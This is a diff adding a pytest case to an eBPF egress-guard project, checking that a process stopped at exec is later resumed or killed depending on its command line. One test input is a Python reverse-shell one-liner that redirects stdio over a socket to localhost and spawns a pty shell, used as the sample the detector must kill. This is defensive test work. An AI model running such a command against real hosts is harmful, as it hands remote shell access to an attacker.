@@ -3,8 +3,10 @@
 a gap or a duplicate, fail-closed while nobody reads events, uninstall."""
 from __future__ import annotations
 
+import os
 import signal
 import subprocess
+import sys
 import time
 
 import pytest
@@ -14,6 +16,7 @@ from guard.sandbox import TempCgroup
 
 from .conftest import CGROUP_HOOKS
 from .agentproc import AgentProcess
+from .netfixtures import end_tree
 from .conftest import port_block_policy
 from .test_lifecycle import cgroup_attachments, egress_guard, guard_programs
 from .test_reload import AcceptingListener
@@ -158,3 +161,62 @@ def test_adopting_agent_releases_cgroups_it_was_not_given(tmp_path, pin_dir, lis
             second.stop()
         egress_guard("uninstall", "--pin-dir", str(pin_dir), "--socket", str(tmp_path / "x"))
     assert guard_programs() == []
+
+
+STALE_HOLD_POLICY = """apiVersion: egress-guard/v1
+kind: EgressPolicy
+metadata:
+  name: stale
+spec:
+  defaultAction: allow
+  detections:
+    reverseShell: kill
+"""
+
+
+@pytest.mark.parametrize("argv, fate", [
+    (["sleep", "30"], "resumed"),
+    # one process (no child left behind when it is killed), a reverse shell's argv
+    ([sys.executable, "-c", "import os,pty,socket,time; time.sleep(30); s=socket.socket(); "
+      "s.connect(('127.0.0.1',9)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; "
+      "pty.spawn('sh')"], "killed")])
+def test_a_stop_whose_exec_event_was_lost_is_judged_from_proc(tmp_path, pin_dir, argv, fate):
+    """The kernel records every program it stops at exec in eg_held_execs; an
+    entry the agent never cleared (its exec event was lost) is judged from
+    /proc once it is older than the hold timeout. Simulated here by stopping a
+    process ourselves and writing its entry into the pinned map."""
+    import ctypes
+
+    from guard.bpf import libbpf
+
+    policy = tmp_path / "p.yaml"
+    policy.write_text(STALE_HOLD_POLICY)
+    with TempCgroup("egress-guard-test") as cg:
+        # started before the agent, so no exec verdict was given to it
+        proc = cg.popen(argv)
+        try:
+            with pinned_agent(cg, policy, pin_dir) as agent:
+                os.kill(proc.pid, signal.SIGSTOP)
+                fd = libbpf.lib().bpf_obj_get(str(pin_dir / "maps" / "eg_held_execs").encode())
+                assert fd >= 0
+                try:
+                    libbpf.map_update(fd, ctypes.c_uint32(proc.pid), ctypes.c_uint64(0))
+                finally:
+                    os.close(fd)
+                event = agent.wait_for(lambda e: e.get("kind") == "error"
+                                       and f"pid {proc.pid} stopped at exec" in e["error"])
+                assert event["error"].endswith(fate)
+                if fate == "killed":
+                    assert proc.wait(timeout=10) == -signal.SIGKILL
+                else:
+                    deadline = time.monotonic() + 10
+                    while _state(proc.pid) == "T" and time.monotonic() < deadline:
+                        time.sleep(0.05)
+                    assert _state(proc.pid) == "S"
+        finally:
+            end_tree(proc)
+
+
+def _state(pid: int) -> str:
+    with open(f"/proc/{pid}/stat") as fh:
+        return fh.read().rsplit(")", 1)[1].split()[0]
